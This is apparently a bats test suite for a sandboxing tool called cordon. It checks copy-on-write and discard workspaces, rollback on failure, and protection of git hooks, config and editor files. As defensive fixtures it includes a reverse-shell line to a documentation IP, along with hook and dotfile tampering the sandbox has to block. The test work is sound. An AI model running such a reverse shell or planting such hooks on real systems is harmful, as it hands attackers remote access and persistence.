#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# --workspace cow and discard, --rollback-on-failure: what is kept, what is thrown away, and that it stays apart.
# shellcheck disable=SC2016 # single quotes hold a script for an inner shell
# shellcheck disable=SC2030,SC2031 # each test has a process of its own
# shellcheck disable=SC2154 # bats sets stderr

bats_require_minimum_version 1.5.0

setup() {
	export CORDON=${CORDON:-$BATS_TEST_DIRNAME/../../build/cordon}
	[ -x "$CORDON" ]
	export CORDON_STATE_DIR=$BATS_TEST_TMPDIR/state CORDON_CONFIG_DIR=$BATS_TEST_TMPDIR/config
	# Not below /tmp, of which a call has its own.
	place=$(mktemp -d /var/tmp/cordon-cow-XXXXXX)
	export HOME=$place/home
	mkdir -p "$place/work/sub" "$HOME" "$CORDON_CONFIG_DIR"
	cd "$place/work" || return
	echo one >a
	echo two >sub/b
	echo '#!/bin/sh' >.gitignore
	"$CORDON" run -q -b native -- true || skip "backend native is not available here"
}

teardown() {
	cd / && rm -rf "$place"
}

# Everything that can differ, but for the times of access.
listing() {
	find "$place/work" -printf '%P %y %m %u %s %i %T@ %C@ %l\n' | sort
	find "$place/work" -type f -exec sha256sum {} +
}

sets() {
	find "$CORDON_STATE_DIR/sandboxes" -mindepth 1 -maxdepth 1 2>/dev/null | wc -l
}

change='echo new >n; echo more >>a; rm sub/b; mkdir -p x/y; echo z >x/y/z; ln -s a l; chmod 600 a'

for_each_backend() {
	local b
	for b in native bwrap nsjail chroot landlock; do
		"$CORDON" run -q -b "$b" --workspace discard -- true 2>/dev/null || continue
		echo "backend $b"
		"$@" "$b" # not part of a condition: there a test that fails would be passed over
	done
}

discards() {
	listing >"$place/before"
	run "$CORDON" run -q -b "$1" --workspace discard --report "$place/r.json" -- \
		sh -c "$change; cat a; cat x/y/z; ls sub"
	[ "$status" -eq 0 ]
	[ "$output" = $'one\nmore\nz' ]
	listing >"$place/after"
	cmp "$place/before" "$place/after"
	[ "$(sets)" -eq 0 ]
	jq -e '[.changes[] | .op + " " + .path] | sort ==
		["added l","added n","added x/y/z","deleted sub/b","modified a"]' "$place/r.json"
	jq -e '.isolation.achieved.untracked | index("changes") | not' "$place/r.json"
	jq -e 'has("sandbox") | not' "$place/r.json"
}

@test "discard: the call sees its changes, the host none of them, and nothing is left" {
	# The control: the same without it.
	"$CORDON" run -q -b native -- sh -c 'echo direct >a'
	[ "$(cat a)" = direct ]
	echo one >a
	for_each_backend discards
}

@test "cow: the change set is kept, named, and the host is as it was" {
	listing >"$place/before"
	run --separate-stderr "$CORDON" run -b native --workspace cow --report "$place/r.json" -- sh -c "$change"
	[ "$status" -eq 0 ]
	listing >"$place/after"
	cmp "$place/before" "$place/after"
	id=$(jq -r .sandbox "$place/r.json")
	[[ $id =~ ^sb-[0-9a-f]{12}$ ]]
	[[ $stderr == *"$id"* && $stderr == *diff* && $stderr == *commit* && $stderr == *discard* ]]
	[ -d "$CORDON_STATE_DIR/sandboxes/$id" ]
	[ "$(stat -c %a "$CORDON_STATE_DIR/sandboxes/$id")" = 700 ]
}

@test "cow: a command that cannot be started leaves no change set" {
	run -127 "$CORDON" run -q -b native --workspace cow -- no-such-command
	[ "$(sets)" -eq 0 ]
}

rolls_back() {
	listing >"$place/before"
	run "$CORDON" run -q -b "$1" --rollback-on-failure --report "$place/r.json" -- sh -c "$change; exit 3"
	[ "$status" -eq 3 ]
	listing >"$place/after"
	cmp "$place/before" "$place/after"
	jq -e '.rolled_back and (.changes | length == 5)' "$place/r.json"
	[ "$(sets)" -eq 0 ]
}

@test "rollback-on-failure: a command that fails leaves the workspace as it was" {
	# The control: without the option it does not.
	run "$CORDON" run -q -b native -- sh -c 'echo left >a; exit 3'
	[ "$status" -eq 3 ]
	[ "$(cat a)" = left ]
	echo one >a
	for_each_backend rolls_back
}

@test "rollback-on-failure: a command that succeeds leaves what it did" {
	inode=$(stat -c %i .gitignore)
	run "$CORDON" run -q -b native --rollback-on-failure --report "$place/r.json" -- sh -c "$change"
	[ "$status" -eq 0 ]
	[ "$(cat a)" = $'one\nmore' ]
	[ "$(stat -c %a a)" = 600 ]
	[ ! -e sub/b ]
	[ -d sub ]
	[ "$(cat x/y/z)" = z ]
	[ "$(readlink l)" = a ]
	[ "$(stat -c %i .gitignore)" = "$inode" ]
	jq -e '.committed == 5' "$place/r.json"
	[ "$(sets)" -eq 0 ]
	[ -z "$(find . -name '.cordon-*')" ]
}

@test "rollback-on-failure: by signal, by time, and when it is judged MALICIOUS in dry run" {
	run "$CORDON" run -q -b native --rollback-on-failure -- sh -c 'echo x >a; kill -9 $$'
	[ "$status" -eq 137 ]
	[ "$(cat a)" = one ]
	run "$CORDON" run -q -b native --rollback-on-failure -t 1s --grace 100ms -- sh -c 'echo x >a; sleep 60'
	[ "$status" -eq 124 ]
	[ "$(cat a)" = one ]
	run "$CORDON" run -q -b native --rollback-on-failure --dry-run --report "$place/r.json" -c 'echo x >a; : | bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 || true'
	[ "$(jq -r .verdict.verdict "$place/r.json")" = MALICIOUS ]
	[ "$(cat a)" = one ]
}

@test "what is outside the workspace is written through" {
	mkdir "$place/other"
	"$CORDON" run -q -b native --workspace discard -w "$place/other" -- sh -c "echo x >'$place/other/f'; echo y >g"
	[ "$(cat "$place/other/f")" = x ]
	[ ! -e g ]
}

@test "a writable grant inside the workspace is a part of the change set" {
	"$CORDON" run -q -b native --workspace discard -w "$place/work/sub" -- sh -c 'echo x >sub/b; echo y >sub/c'
	[ "$(cat sub/b)" = two ]
	[ ! -e sub/c ]
}

guards() {
	mkdir -p .git/hooks .git/objects .git/refs
	echo 'ref: refs/heads/main' >.git/HEAD
	echo '[core]' >.git/config
	echo secret >denied
	listing >"$place/before"
	run "$CORDON" run -q -b "$1" --workspace discard -x "$place/work/denied" --report "$place/r.json" -- sh -c '
		echo evil >.git/hooks/pre-commit && echo "hooks written"
		echo evil >>.git/config && echo "config written"
		perl -e "exit !rename q(.git), q(.git2)" && echo "git moved"
		rm -rf .git/hooks; test -d .git/hooks || echo "hooks removed"
		echo evil >.mcp.json && echo "mcp written"
		echo evil >.bashrc && echo "bashrc written"
		mkdir -p .vscode && echo x >.vscode/tasks.json && echo "tasks written"
		cat denied && echo "denied read"
		echo fine >.git/index && echo "index written"
		true'
	[[ $output == *"index written"* ]] # the control
	for said in "hooks written" "config written" "git moved" "hooks removed" "mcp written" \
		"bashrc written" "tasks written" "denied read" secret; do
		[[ $output != *"$said"* ]]
	done
	jq -e '[.changes[].path] == [".git/index"]' "$place/r.json"
	listing >"$place/after"
	cmp "$place/before" "$place/after"
	rm -rf .git denied
}

@test "what is protected or denied is so in a change set too, there or not" {
	for_each_backend guards
}

@test "a state directory inside the workspace is refused with a reason" {
	export CORDON_STATE_DIR=$place/work/state
	run "$CORDON" run -b native --workspace discard -- true
	[ "$status" -eq 125 ]
	[[ $output == *CORDON_STATE_DIR* ]]
	"$CORDON" run -q -b native -- true
}

@test "a killed cordon leaves a change set that the next command removes" {
	"$CORDON" run -q -b native --workspace discard -- sh -c 'echo x >started-inside; echo ready >&2; sleep 100' 2>"$place/said" &
	pid=$!
	for _ in $(seq 200); do
		grep -q ready "$place/said" && break
		sleep 0.1
	done
	[ "$(sets)" -eq 1 ]
	kill -9 $pid
	wait $pid || true
	[ "$(sets)" -eq 1 ]
	for _ in $(seq 100); do
		"$CORDON" run -q -b native -- true
		[ "$(sets)" -eq 0 ] && break
		sleep 0.1
	done
	[ "$(sets)" -eq 0 ]
	[ ! -e started-inside ]
}

@test "a level without a file system of its own refuses" {
	run "$CORDON" run -b noop -l none --workspace discard -- touch ran
	[ "$status" -eq 125 ]
	[ ! -e ran ]
}

@test "a changed file with secrets and a new repository are findings" {
	"$CORDON" run -q -b native --workspace discard --report "$place/r.json" -- sh -c 'echo KEY=1 >.env; mkdir -p r/.git/objects r/.git/refs; echo "ref: x" >r/.git/HEAD'
	jq -e '[.verdict.findings[].rule] | index("sensitive-file-changed")' "$place/r.json"
	jq -e '[.verdict.findings[] | select(.rule == "new-git-directory")] | length == 1' "$place/r.json"
}

@test "a link in a git directory is a finding, and is not committed" {
	git init -q .
	git config user.name n
	git config user.email n@example.org
	git commit -q --allow-empty -m 1
	git init -q --bare b.git
	"$CORDON" run -q -b native --workspace cow --report "$place/r.json" -- sh -ec '
		ln -sf ../../startup .git/COMMIT_EDITMSG; rm -rf .git/logs; ln -s ../.. .git/logs; ln -s ../../startup b.git/FETCH_HEAD
		mkdir -p n/.git/refs n/.git/objects; echo "ref: refs/heads/x" >n/.git/HEAD; ln -s ../../../startup n/.git/MERGE_MSG
		ln -s a l; echo more >.git/packed-refs; echo more >>a'
	[ "$(jq '[.verdict.findings[] | select(.rule == "link-in-git-directory")] | length' "$place/r.json")" -eq 4 ]
	run -0 --separate-stderr "$CORDON" sandbox commit "$(jq -r .sandbox "$place/r.json")"
	for name in .git/COMMIT_EDITMSG .git/logs b.git/FETCH_HEAD n/.git/MERGE_MSG; do
		[[ $stderr == *"$name: a link in a git directory"* ]]
		[ ! -L "$name" ]
	done
	[ -L l ] # the control
	[ "$(tail -n 1 a) $(cat .git/packed-refs)" = 'more more' ]
	git commit -q --allow-empty -m 2 || true
	[ ! -e "$place/startup" ]
}

@test "a file with names outside of the workspace: a commit changes neither its content nor its mode there" {
	echo kept >"$place/outside"
	chmod 640 "$place/outside"
	touch -d 2020-01-01 "$place/outside"
	before=$(stat -c '%a %Y' "$place/outside")
	for act in 'chmod 777 near' 'touch -d 2021-01-01 near' 'echo more >>near' 'chmod 600 near; echo more >>near'; do
		rm -f near
		ln "$place/outside" near
		"$CORDON" run -q -b native --workspace cow --report "$place/r.json" -- sh -ec "$act"
		run -0 "$CORDON" sandbox commit "$(jq -r .sandbox "$place/r.json")"
		[ "$(stat -c '%a %Y' "$place/outside")" = "$before" ]
		[ "$(cat "$place/outside")" = kept ]
		[ "$(head -n 1 near)" = kept ]
		[ "$(stat -c '%a %Y %h' near)" != "$before 2" ]
	done
	# Where all names are in the workspace they stay names of one file.
	ln a a2
	"$CORDON" run -q -b native --workspace cow --report "$place/r.json" -- chmod 751 a
	run -0 "$CORDON" sandbox commit "$(jq -r .sandbox "$place/r.json")"
	[ "$(stat -c '%a %h' a2)" = '751 2' ]
	[ a -ef a2 ]
}

@test "a tree that is given somebody else's repository is warned of when it is committed" {
	git init -q own
	git -C own config user.name n
	git -C own config user.email n@example.org
	git -C own config core.hooksPath .hooks
	git -C own commit -q --allow-empty -m 1
	"$CORDON" run -q -b native --workspace cow --report "$place/r.json" -- sh -ec '
		mkdir -p file/.hooks link; echo "gitdir: ../own/.git" >file/.git; ln -s ../own/.git link/.git
		printf "#!/bin/sh\ntouch ../../owned\n" >file/.hooks/pre-commit; chmod 755 file/.hooks/pre-commit; git -C own worktree add -q "$PWD/side"'
	run -0 --separate-stderr "$CORDON" sandbox commit "$(jq -r .sandbox "$place/r.json")"
	[[ $stderr == *"file: a new working tree of a repository"*core.hookspath=.hooks* ]]
	[[ $stderr == *"link: a new working tree of a repository"*core.hookspath=.hooks* ]]
	[[ $stderr != *"side: "* ]] # the repository knows it
	git -C file -c user.name=n -c user.email=n@example.org commit -q --allow-empty -m 2
	[ -e "$place/owned" ] # that is why
}

@test "what was written is remembered of the session, whatever the words of the call say" {
	write='open F, ">", join("", "Make", "file"); print F "all:"'
	"$CORDON" run -q -b native --session direct -- perl -e "$write" # the control: nothing is seen of it
	run "$CORDON" session show direct
	[[ $output != *build-file* ]]
	"$CORDON" run -q -b native --session apart --workspace discard -- perl -e "$write . qq(more)"
	run "$CORDON" session show apart
	echo "$output"
	[[ $output == *build-file* ]]
}

# BACKEND SCRIPT: the id of the set that is kept.
kept() {
	"$CORDON" run -q -b "$1" --workspace cow --report "$place/r.json" -- sh -c "$2"
	jq -r .sandbox "$place/r.json"
}

exchanged() {
	rm -rf sub other gone
	mkdir sub other
	echo two >sub/b
	echo another >other/b
	id=$(kept "$1" 'echo inside >sub/b; echo inside >sub/new')
	# The control: a name that somebody adds is not in the way of others.
	touch sub/mine
	"$CORDON" sandbox commit "$id" sub/new
	[ "$(cat sub/new)" = inside ]
	mv sub gone
	mv other sub
	touch sub/later # so that nothing but the inode tells
	run "$CORDON" sandbox commit "$id"
	echo "$output"
	[ "$status" -ne 0 ]
	[[ $output == *"changed outside"*"sub/b"* ]]
	[ "$(cat sub/b)" = another ]
	[ "$(cat gone/b)" = two ]
	"$CORDON" sandbox commit --force "$id" sub/b
	[ "$(cat sub/b)" = inside ]
	"$CORDON" sandbox rm --force "$id"
}

@test "a directory that was exchanged outside for an older one is a conflict" {
	for_each_backend exchanged
}

linked() {
	rm -f a a2 b b2 b3
	echo one >a && ln a a2
	echo two >b && ln b b2 && ln b b3
	inode=$(stat -c %i a)
	id=$(kept "$1" 'echo more >>a; echo x >b; echo y >b2')
	"$CORDON" sandbox commit "$id"
	[ "$(cat a2)" = $'one\nmore' ]
	[ "$(stat -c '%i %h' a)" = "$inode 2" ]
	[ "$(stat -c '%i %h' a2)" = "$inode 2" ]
	# Names that got different contents cannot be one file, and what was not written keeps what it had.
	[ "$(cat b b2 b3)" = $'x\ny\ntwo' ]
}

@test "a file with more than one name is written in place, for all of them" {
	for_each_backend linked
}

@test "a full disk: nothing is written, and the changes are kept" {
	[ "$(id -u)" -eq 0 ] || skip "needs root to mount a small file system"
	mkdir "$place/small"
	cat >"$place/script" <<-'END'
		mount -t tmpfs -o size=1m none "$1/small" && cd "$1/small" && mkdir w && cd w || exit 99
		echo one >a
		echo two >b
		"$CORDON" run -b native --rollback-on-failure --report "$1/r.json" -- \
			sh -c 'echo ONE >a; rm b; dd if=/dev/zero of=large bs=1M count=3 2>/dev/null; dd if=large of=/dev/null 2>/dev/null'
		echo "code $?"
		cat a b
		ls -A
	END
	run unshare -m --propagation private sh "$place/script" "$place"
	echo "$output"
	[ "$status" -eq 0 ]
	[[ $output == *"No space left"* && $output == *"code 125"* ]]
	[[ $output == *$'one\ntwo\na\nb' ]]
	[[ $output == *"cordon sandbox commit sb-"* ]]
	[ "$(sets)" -eq 1 ]
}

@test "a copied workspace shares its bytes where the file system can, and a commit gives them back" {
	[ "$(id -u)" -eq 0 ] || skip "needs root to mount a file system"
	"$CORDON" run -q -b landlock -- true 2>/dev/null || skip "backend landlock is not available here"
	mkdir "$place/m"
	truncate -s 400M "$place/image"
	mkfs.xfs -q -m reflink=1 "$place/image"
	cat >"$place/script" <<-'END'
		mount -o loop "$1/image" "$1/m" && cd "$1/m" && mkdir -m 700 w state || exit 99
		cd w && head -c 100M /dev/urandom >large && echo one >a || exit 98
		used() { sync -f . && df --output=used -k . | tail -n 1; }
		export CORDON_STATE_DIR=$1/m/state
		before=$(used)
		"$CORDON" run -q -b landlock --workspace cow --report "$1/r.json" -- \
			sh -c 'printf x | dd of=large bs=1 seek=9 conv=notrunc 2>/dev/null; echo two >a' || exit 97
		[ $(($(used) - before)) -lt 10000 ] || exit 96
		[ "$(cat a)" = one ] || exit 95
		"$CORDON" sandbox commit "$(jq -r .sandbox "$1/r.json")" || exit 94
		[ $(($(used) - before)) -lt 10000 ] || exit 93
		dd if=large bs=1 skip=9 count=1 2>/dev/null
		cat a
	END
	run unshare -m --propagation private sh "$place/script" "$place"
	echo "$output"
	[ "$status" -ne 99 ] || skip "no loop devices here"
	[ "$status" -eq 0 ]
	[[ $output == *xtwo ]]
}

@test "as another user" {
	[ "$(id -u)" -eq 0 ] || skip "needs root to become somebody else"
	chmod 755 "$place"
	chown -R 1000:1000 "$place"
	mkdir -p "$place/bin"
	cp "$CORDON" "$place/bin/cordon"
	export CORDON_STATE_DIR=$place/state CORDON_CONFIG_DIR=$place/config
	as() { setpriv --reuid=1000 --regid=1000 --clear-groups "$place/bin/cordon" "$@"; }
	as run -q -b native -- true || skip "backend native is not available to users here"
	as run -q -b native --workspace discard -- sh -c "$change"
	[ "$(cat a)" = one ]
	as run -q -b native --rollback-on-failure -- sh -c "$change; mkdir closed; echo in >closed/f; chmod 000 closed; echo r >ro; chmod 0 ro"
	[ "$(cat a)" = $'one\nmore' ]
	[ "$(stat -c %a closed)" = 0 ]
	[ "$(cat closed/f)" = in ]
	[ "$(stat -c '%a %u' ro)" = '0 1000' ]
}

@test "commit: a name outside of the workspace keeps its content" {
	echo one >a && ln a a2
	echo two >b && ln b "$place/outside"
	for how in 'echo new >a; echo new >b' 'echo newer >t; mv t b'; do
		"$CORDON" run -q -b native --workspace cow --report "$place/r.json" -- sh -c "$how"
		id=$(jq -r .sandbox "$place/r.json")
		"$CORDON" sandbox commit "$id"
		[ "$(cat "$place/outside")" = two ]
		rm b && ln "$place/outside" b
	done
	# The control: all names of the other are inside.
	[ "$(cat a2)" = new ]
	[ a -ef a2 ]
}

# The mount namespace of a test: SCRIPT runs in a workspace w with file systems at w/data and w/sub/more.
with_mounts() {
	cat >"$place/script" - <<-'END'
		set -e
		no() { # COMMAND...: a "!" would not end the script
			if "$@"; then exit 1; fi
		}
		mkdir -p "$1/v/w/data" "$1/v/w/sub/more" "$1/v/state"
		chmod 700 "$1/v/state"
		export CORDON_STATE_DIR=$1/v/state
		mount -t tmpfs none "$1/v/w/data"
		mount -t tmpfs none "$1/v/w/sub/more"
		cd "$1/v/w"
		echo one >a
		echo host >data/f
		echo host >sub/more/f
		. "$1/body"
	END
	cat >"$place/body"
	run unshare -m --propagation private bash "$place/script" "$place" "$1"
	echo "$output"
}

listed() {
	with_mounts "$1" <<-'END'
		run="$CORDON run -q -b $2 --workspace cow"
		# None of them, and one of them: refused by name.
		no $run -- true 2>err
		grep -q "mounted at" err
		grep -q -e "--submount PATH" err
		no $run --submount "$PWD/data" -- true 2>err
		grep -q 'sub/more' err
		# What is no mount cannot be listed, nor what is elsewhere, nor without a change set.
		no $run --submount "$PWD/data" --submount "$PWD/sub/more" --submount "$PWD/sub" -- true 2>err
		grep -q "nothing is mounted at 'sub'" err
		no $run --submount /usr -- true 2>err
		grep -q 'not in the workspace' err
		no "$CORDON" run -q -b "$2" --submount "$PWD/data" --submount "$PWD/sub/more" -- true 2>err
		grep -q 'written through' err
		rm err
		# One read-only, one written through; the rest is the change set's.
		$run --submount "$PWD/data" --submount "$PWD/sub/more" --write "$PWD/data" --report "$1/r.json" -- sh -c '
			cat data/f sub/more/f; echo inside >data/f; echo new >data/g; echo two >a; echo n >sub/n; ! echo x 2>/dev/null >sub/more/f; ! test -e .git/hooks/x'
		cat a data/f data/g sub/more/f
		[ ! -e sub/n ]
		jq -c '.submounts, [.changes[].path]' "$1/r.json"
		id=$(jq -r .sandbox "$1/r.json")
		"$CORDON" sandbox diff "$id" 2>err
		grep -q "'data' is a mount" err
		rm err
		"$CORDON" sandbox commit "$id" >/dev/null 2>&1
		cat a sub/n data/f
		# A writable name that became a link to the read-only one writes nothing there.
		ln -s sub/more out
		no $run --submount "$PWD/data" --submount "$PWD/sub/more" --write "$PWD/out" -- sh -c 'echo x >sub/more/f' 2>/dev/null
		grep -qx host sub/more/f
		rm out
		# A repository that was made where it is written through is told.
		$run --submount "$PWD/data" --submount "$PWD/sub/more" --write "$PWD/data" --report "$1/r.json" -- git init -q data/repo
		[ -d data/repo/.git ]
		grep -q '"rule":"new-git-directory"' "$1/r.json"
		"$CORDON" sandbox discard "$(jq -r .sandbox "$1/r.json")" >/dev/null 2>&1 || true
		rm -r data/repo
	END
	[ "$status" -eq 0 ]
	[[ $output == *$'host\nhost\none\ninside\nnew\nhost\n'* ]]
	[[ $output == *'"path":"'*'/v/w/data","permissions":"rw"}'*'/v/w/sub/more","permissions":"ro"}]'* ]]
	[[ $output == *'["a","sub/n"]'* || $output == *'["sub/n","a"]'* ]]
	[[ $output == *$'added: sub/n\nmodified: a\n'*$'two\nn\ninside' ]]
}

@test "a mount in the workspace is an error unless it is listed, and then no part of the change set" {
	[ "$(id -u)" -eq 0 ] || skip "needs root to mount a file system"
	for backend in native bwrap nsjail; do
		"$CORDON" run -q -b "$backend" -- true 2>/dev/null || continue
		listed "$backend"
		rm -rf "$place/v"
	done
	with_mounts landlock <<-'END'
		"$CORDON" run -q -b landlock -- true 2>/dev/null || exit 0
		no "$CORDON" run -q -b landlock --workspace cow --submount "$PWD/data" --submount "$PWD/sub/more" -- true 2>err
		grep -q 'without mounts of its own' err
	END
	[ "$status" -eq 0 ]
}

@test "a mount that is listed in a sandbox that stays: discard keeps it out" {
	[ "$(id -u)" -eq 0 ] || skip "needs root to mount a file system"
	with_mounts native <<-'END'
		id=$("$CORDON" sandbox create --submount "$PWD/data" --submount "$PWD/sub/more" --write "$PWD/data")
		trap '"$CORDON" sandbox rm --force "$id"' EXIT
		"$CORDON" sandbox exec -c 'echo two >a; echo inside >data/f' "$id"
		"$CORDON" sandbox diff "$id" 2>/dev/null
		"$CORDON" sandbox discard "$id" 2>/dev/null
		"$CORDON" sandbox exec "$id" cat a data/f
		cat a data/f
	END
	[ "$status" -eq 0 ]
	[[ $output == *$'modified: a\none\ninside\none\ninside'* ]]
}

# Whether a file is still the host's own is looked at when the command has ended and its time limit with it.
@test "cow: a large hole is not read through" {
	truncate -s 1T big
	[ "$(stat -c %s big)" -eq 1099511627776 ] || skip "no such files on this file system"
	run -0 timeout 60 "$CORDON" run -q --workspace cow --report r.json -- touch -d 2001-01-01 big
	[ "$(jq -c .changes r.json)" = '[{"op":"modified","path":"big"}]' ]
	run -0 timeout 60 "$CORDON" run -q --workspace cow --report r.json -- sh -c 'printf x | dd of=big bs=1 seek=1000G conv=notrunc status=none'
	[ "$(jq -c .changes r.json)" = '[{"op":"modified","path":"big"}]' ]
}
